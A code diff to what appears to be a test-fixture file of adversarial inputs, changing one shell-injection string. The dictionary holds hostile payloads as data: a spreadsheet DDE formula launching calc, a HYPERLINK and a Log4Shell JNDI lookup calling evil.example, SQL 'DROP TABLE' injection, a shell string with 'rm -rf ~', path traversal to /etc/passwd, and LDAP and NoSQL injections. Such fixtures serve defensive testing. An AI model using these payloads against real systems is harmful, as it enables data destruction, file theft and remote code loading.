@@ -20,7 +20,7 @@ MARKUP = {
 }
 FORMULAS = {
     "equals": "=cmd|'/C calc'!A0", "plus": "+1+1", "minus": "-2+3+cmd", "at": "@SUM(1+1)", "link": '=HYPERLINK("http://evil.example","x")', "quote": '";=1+1;"',
-    "sql": "'; DROP TABLE people; --", "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat && x", "format": "%s%n%x %d {0} \\(x)", "path": "../../../etc/passwd",
+    "sql": "'; DROP TABLE people; --", "shell": "$(touch x) `id` ; rm -rf ~ | cat && x", "format": "%s%n%x %d {0} \\(x)", "path": "../../../etc/passwd",
     "windows-path": "..\\..\\windows\\system32", "ldap": "*)(uid=*))(|(uid=*", "log": "${jndi:ldap://evil.example/a}", "json": '","admin":true,"x":"', "key": '{"$gt":""}',
     "variable": "$HOME ~ %PATH%", "null-word": "null", "none-word": "None", "nan-word": "NaN", "number": "0x1F 1e5 007", "date": "2026-02-31", "true-word": "true",
 }
